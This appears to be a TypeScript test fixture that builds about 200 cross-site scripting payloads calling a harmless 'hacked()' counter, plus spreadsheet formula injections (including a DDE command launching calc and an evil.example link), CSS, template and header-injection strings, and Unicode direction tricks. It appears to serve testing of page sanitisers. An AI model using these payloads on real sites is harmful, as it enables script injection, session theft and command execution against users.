/** What every payload tries to run; a page under test counts its calls. */
const CALL = 'hacked()';

/** Ways out of the places where a page puts text: content, attributes of either quote, elements of raw text, script, comment. */
const EXITS = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '</select>', '-->', ']]>'];

/** Elements that run the call by themselves. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<object data="javascript:${CALL}"></object>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${CALL}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<form><button formaction="javascript:${CALL}" autofocus>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
];

/** Attributes and addresses that run the call where they end up in a tag or a link. */
const ATTRIBUTES = [
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  ` autofocus onfocus=${CALL} `,
  `" onmouseover=${CALL} style="position:fixed;inset:0" x="`,
  `" onanimationstart=${CALL} style="animation:x 1s" x="`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `vbscript:${CALL}`,
];

/** Ways out of script, style, templates and JSON. */
const CODE = [
  `';${CALL};//`,
  `";${CALL};//`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `{{${CALL}}}`.replaceAll('{', '{ '),
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `\u2028${CALL}//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `<!--<script>${CALL}//-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `</script\n><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ſcript>${CALL}</ſcript>`,
  `＜script＞${CALL}＜/script＞`,
  `__proto__"><img src=x onerror=${CALL}>`,
];

/**
 * 200 texts that run `hacked()` on a page that takes them for markup, an address or code. All are valid as text.
 * Ways after the OWASP filter evasion cheat sheet, the PortSwigger cheat sheet and html5sec.org.
 */
export const XSS_PAYLOADS: readonly string[] = [
  ...EXITS.flatMap((exit) => ELEMENTS.map((element) => `${exit}${element}`)),
  ...ATTRIBUTES,
  ...CODE,
  ...ATTRIBUTES.map((attribute) => `x${attribute}`),
].slice(0, 200);

/** Texts that mislead without a script: formulas of spreadsheets, controls of direction, style, templates, broken encodings. */
export const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example","Refund")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '\u202Egnp.tnuocca',
  '\u2066\u202Einverted\u2069',
  '\u200F\u200Eboth\u061Cways',
  'z\u200Bero\u200Dwidth\uFEFF',
  '\uFFFDbroken\uFFFE',
  'Z\u0351\u036B\u0343\u036A\u0302alg\u0334o',
  '</style><style>*{display:none}',
  'background:url(https://evil.example/x.png)',
  '{{constructor.constructor("hacked()")()}}',
  '{{ customer }} {{unknown}} ${7*7} <%= 7*7 %>',
  '%00%0d%0aSet-Cookie: x=1',
  '$& $1 \\u0000 \\x3cscript\\x3e',
];
